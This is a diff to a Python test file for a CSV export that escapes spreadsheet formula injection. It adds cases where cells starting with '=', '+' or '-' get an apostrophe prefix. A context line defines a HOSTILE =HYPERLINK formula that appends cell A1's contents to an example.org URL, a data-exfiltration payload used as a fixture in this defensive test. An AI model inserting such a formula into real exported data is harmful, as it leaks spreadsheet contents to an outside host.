@@ -79,11 +79,15 @@ def test_csv_opens_in_the_excel_of_the_reader(
         ("a\r\nb\tc", "a b c"),
         ("– tiret", "– tiret"),
         ("1-2", "1-2"),
+        ("a, =1", "a, =1"),
+        ("a;=1", "a;'=1"),
+        ('a; "" +1;-2', "a; \"\" '+1;'-2"),
+        ('"=1', "\"'=1"),
         ("", ""),
     ],
 )
 def test_no_cell_is_a_formula(text: str, expected: str) -> None:
-    assert cell(text) == expected
+    assert cell(text, ";") == expected
 
 
 HOSTILE = '=HYPERLINK("http://example.org/?"&A1;"Œuvre d’été")'
